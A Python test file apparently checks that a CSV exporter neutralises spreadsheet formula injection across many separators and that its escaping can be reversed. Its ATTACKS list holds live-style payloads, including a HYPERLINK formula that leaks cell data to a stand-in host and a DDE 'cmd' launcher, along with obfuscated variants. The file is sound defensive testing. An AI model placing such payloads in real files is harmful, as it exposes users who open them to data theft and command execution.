"""No value of a .csv becomes a formula, by whatever sign a program parts cells, and every value can be had again."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from rkt_excel.model.papers.isi_arsip import as_csv

SEPARATORS = (";", ",", "\t", "|", ":")
LIVE = re.compile(r"\s*[=+@\uff1d\uff0b\uff20\ufe66\ufe62\ufe6b\u2212\uff0d\ufe63-]")
# A number, or nothing but a dash; with the sign of our own behind it, it is no formula of any program.
NUMBER = re.compile(r'\s*-(?:\d+(?:[.,]\d+)?)?["\xa0 ]*(?:[;,\t].*)?', re.DOTALL)
FORMULA = '=HYPERLINK("http://contoh.com/?"&A1)'
ATTACKS = (
    FORMULA, "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    f" {FORMULA}", f"\t{FORMULA}", f"\r{FORMULA}", f"\n{FORMULA}", f'"{FORMULA}', f'""{FORMULA}""', f"\xa0{FORMULA}",
    f"\ufeff{FORMULA}", f"\u200b{FORMULA}", "\uff1d1+1", "\uff0b1", "\uff201", "\u22121+1",
    *(f"Bidang A{sign}{FORMULA}{sign}B" for sign in SEPARATORS),
    *(f'Bidang A{sign} "{FORMULA}" {sign}B' for sign in SEPARATORS),
    f"Bidang A\n{FORMULA}", f"Bidang A\r\n{FORMULA}", f'a",{FORMULA},"b', f'a";{FORMULA};"b', "a,-1+1", "a;'=1",
    "'=1", "''=1", "'-5",
)  # fmt: skip
HARMLESS = (
    "-5",
    "-5,25",
    "85,5",
    "Bidang A - Umum",
    "Rp 5.000,-",
    "a@b.go.id",
    "x = y",
    "",
    "1/2",
    "IK.1.1",
    "2026-01-03",
)


def recovered(text: str) -> str:
    """What docs/manual.md says: one apostrophe is taken away before each sign where a cell could begin."""
    begins = r"((?:^|[;,|:\t\r\n\x0b\x0c\x85\u2028\u2029])[\s\"\u200b\ufeff\xad\u2060]*'*)'"
    return re.sub(begins + r"(?=[=+@\uff1d\uff0b\uff20\ufe66\ufe62\ufe6b\u2212\uff0d\ufe63-])", r"\1", text)


def table(*values: str) -> bytes:
    rows = [{"a": "x", "b": value, "c": value} for value in values] + [
        {"a": value, "b": "x", "c": "x"} for value in values
    ]
    return as_csv(rows, {"a": "Kunci", "b": "Nilai", "c": "Lagi"})


def cells(text: str, separator: str) -> list[str]:
    """Every cell that a program shows: as Python parses it, and as a plain one does that knows no quotation marks."""
    parsed = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
    plain = [cell for line in re.split(r"[\r\n\x0b\x0c\x85\u2028\u2029]+", text) for cell in line.split(separator)]
    return parsed + plain


def live(data: bytes) -> list[tuple[str, str]]:
    text = data.decode("utf-8-sig")
    shown = [(sign, cell.strip('"\u200b\ufeff\xad\u2060\xa0 ')) for sign in SEPARATORS for cell in cells(text, sign)]
    return [(sign, cell) for sign, cell in shown if LIVE.match(cell) and not NUMBER.fullmatch(cell)]


@pytest.mark.parametrize("value", ATTACKS)
def test_no_program_finds_a_formula_whatever_sign_parts_its_cells(value: str) -> None:
    assert live(table(value)) == []


@pytest.mark.parametrize("value", HARMLESS)
def test_what_is_no_formula_stands_as_it_is(value: str) -> None:
    rows = list(csv.reader(io.StringIO(table(value).decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[1][1] == value


@pytest.mark.parametrize("value", [*ATTACKS, *HARMLESS])
def test_every_value_can_be_had_again(value: str) -> None:
    rows = list(csv.reader(io.StringIO(table(value).decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [recovered(cell) for cell in (rows[1][1], rows[1][2], rows[2][0])] == [value] * 3


@pytest.mark.tuntas
@example('a,"",""=1+1"",')
@example("\n\n=1")
@example(";''\"=")
@settings(deadline=None, max_examples=1_000)
@given(st.text(st.sampled_from(list(";,|:\t\r\n \"'=+-@\uff1daZ5.()&!\xa0\ufeff")), max_size=24))
def test_any_value_is_no_formula_and_can_be_had_again(value: str) -> None:
    data = table(value)
    assert live(data) == []
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert recovered(rows[1][1]) == value


def test_a_name_that_is_no_text_is_written_all_the_same() -> None:
    assert b"\\udcff.xlsx" in table("\udcff.xlsx")
